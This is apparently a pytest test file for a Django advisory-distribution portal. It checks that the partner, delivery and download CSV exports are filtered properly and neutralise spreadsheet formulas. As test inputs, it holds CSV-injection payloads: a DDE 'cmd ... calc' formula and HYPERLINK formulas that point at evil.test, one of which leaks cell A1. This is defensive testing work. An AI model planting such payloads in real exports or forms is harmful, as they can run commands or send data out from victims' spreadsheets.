"""CSV exports filtered as the lists are, safe in a spreadsheet; the printable distribution report."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from advisories import services
from advisories.models import AccessKind, AdvisoryStatus
from compliance.entitlements import partner_access
from core.levels import AccessLevel
from tests.factories import AdvisoryFactory, HandlingAcknowledgementFactory, WaveFactory


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def released(advisory, make_partner, member_of):
    """The advisory released at the early level to two partners; one member of the first opened it twice."""
    first = make_partner(legal_name='=HYPERLINK("http://evil.test","Click")')
    second = make_partner(legal_name="Quiet Labs")
    WaveFactory(advisory=advisory, level=AccessLevel.EARLY, scheduled_at=timezone.now() - timedelta(seconds=1))
    services.release_due_waves()
    reader = member_of(first)
    HandlingAcknowledgementFactory(user=reader, partner=first, advisory=advisory)
    for _ in range(2):
        services.record_access(
            access=partner_access(reader), user=reader, advisory=advisory, kind=AccessKind.VIEW, user_agent="+cmd"
        )
    return {"advisory": advisory, "first": first, "second": second, "reader": reader}


@pytest.mark.django_db
def test_the_partner_export_uses_the_partner_list_filters(manager_client, make_partner):
    make_partner(legal_name="Kestrel Labs", country="DE")
    make_partner(legal_name="Harbor AV", country="US")

    rows = _rows(manager_client.get(reverse("program:partners_csv"), {"country": "DE"}))

    assert [row["legal name"] for row in rows] == ["Kestrel Labs"]
    assert rows[0]["effective level"] == "early"


@pytest.mark.django_db
def test_the_partner_export_quotes_a_name_a_spreadsheet_would_run(manager_client, make_partner):
    make_partner(legal_name="=cmd|' /C calc'!A0")

    (row,) = _rows(manager_client.get(reverse("program:partners_csv")))

    assert row["legal name"] == "'=cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_the_delivery_export_lists_every_delivery_with_safe_cells(manager_client, released):
    rows = _rows(manager_client.get(reverse("program:deliveries_csv")))

    assert sorted(row["organisation"] for row in rows) == ['\'=HYPERLINK("http://evil.test","Click")', "Quiet Labs"]
    assert {row["advisory"] for row in rows} == {released["advisory"].identifier}


@pytest.mark.django_db
def test_the_delivery_export_is_narrowed_to_one_organisation(manager_client, released):
    rows = _rows(manager_client.get(reverse("program:deliveries_csv"), {"partner": released["second"].pk}))

    assert [row["organisation"] for row in rows] == ["Quiet Labs"]


@pytest.mark.django_db
def test_the_delivery_export_is_narrowed_to_a_range_of_days(manager_client, released):
    yesterday = (timezone.now() - timedelta(days=1)).date().isoformat()

    assert _rows(manager_client.get(reverse("program:deliveries_csv"), {"until": yesterday})) == []
    assert len(_rows(manager_client.get(reverse("program:deliveries_csv"), {"since": yesterday}))) == 2


@pytest.mark.django_db
def test_the_download_export_lists_each_access_with_its_user_and_quoted_user_agent(manager_client, released):
    rows = _rows(manager_client.get(reverse("program:downloads_csv"), {"advisory": released["advisory"].identifier}))

    assert [(row["user"], row["user agent"]) for row in rows] == [(released["reader"].email, "'+cmd")] * 2


@pytest.mark.django_db
@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_a_partner_user_agent_stays_text_whatever_separator_the_spreadsheet_uses(manager_client, released, separator):
    reader = released["reader"]
    services.record_access(
        access=partner_access(reader),
        user=reader,
        advisory=released["advisory"],
        kind=AccessKind.VIEW,
        user_agent='x;=HYPERLINK("http://evil.test/?leak="&A1,"Update")',
    )
    response = manager_client.get(reverse("program:downloads_csv"), {"advisory": released["advisory"].identifier})
    body = b"".join(response.streaming_content).decode()

    cells = [cell.lstrip(' "') for row in csv.reader(io.StringIO(body), delimiter=separator) for cell in row]

    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert any("'=HYPERLINK(" in cell for cell in cells)


@pytest.mark.django_db
def test_the_download_export_of_another_advisory_is_empty(manager_client, released):
    other = AdvisoryFactory()

    assert _rows(manager_client.get(reverse("program:downloads_csv"), {"advisory": other.identifier})) == []


@pytest.mark.django_db
def test_the_reports_page_counts_what_the_filters_match(manager_client, released):
    response = manager_client.get(reverse("program:reports"), {"partner": released["first"].pk})

    assert response.context["delivery_count"] == 1
    assert response.context["download_count"] == 2


@pytest.mark.django_db
def test_the_distribution_report_shows_who_received_opened_and_acknowledged(manager_client, released):
    response = manager_client.get(reverse("program:distribution_report", args=[released["advisory"].identifier]))

    report = response.context["report"]
    by_partner = {delivery.partner_id: delivery for delivery in report.deliveries}
    assert by_partner[released["first"].pk].accesses == 2
    assert by_partner[released["first"].pk].first_access_by == released["reader"].email
    assert by_partner[released["second"].pk].first_access_at is None
    assert [ack.user for ack in report.acknowledgements] == [released["reader"]]
    assert b"Quiet Labs" in response.content and b"data-print" in response.content


@pytest.mark.django_db
def test_an_unassigned_manager_is_refused_the_distribution_of_an_unreleased_advisory(manager_client):
    draft = AdvisoryFactory(status=AdvisoryStatus.SCHEDULED)

    response = manager_client.get(reverse("program:distribution_report", args=[draft.identifier]))

    assert response.status_code == 403
    assert draft.title.encode() not in response.content


@pytest.mark.django_db
def test_a_compliance_officer_reads_the_distribution_of_an_unreleased_advisory(client, compliance_officer):
    draft = AdvisoryFactory(status=AdvisoryStatus.SCHEDULED)
    client.force_login(compliance_officer)

    assert client.get(reverse("program:distribution_report", args=[draft.identifier])).status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["partners_csv", "deliveries_csv", "downloads_csv"])
def test_a_partner_user_is_told_no_export_exists(client, make_partner, member_of, name):
    client.force_login(member_of(make_partner(), role="admin"))

    assert client.get(reverse(f"program:{name}")).status_code == 404


@pytest.mark.django_db
def test_the_reports_page_links_the_distribution_of_the_advisory_named(manager_client, advisory):
    response = manager_client.get(reverse("program:reports"), {"advisory": advisory.identifier.lower()})

    assert reverse("program:distribution_report", args=[advisory.identifier]).encode() in response.content


@pytest.mark.django_db
def test_the_reports_page_says_so_when_no_advisory_has_the_identifier(manager_client):
    response = manager_client.get(reverse("program:reports"), {"advisory": "no/such"})

    assert response.status_code == 200
    assert "No advisory has the identifier" in response.text
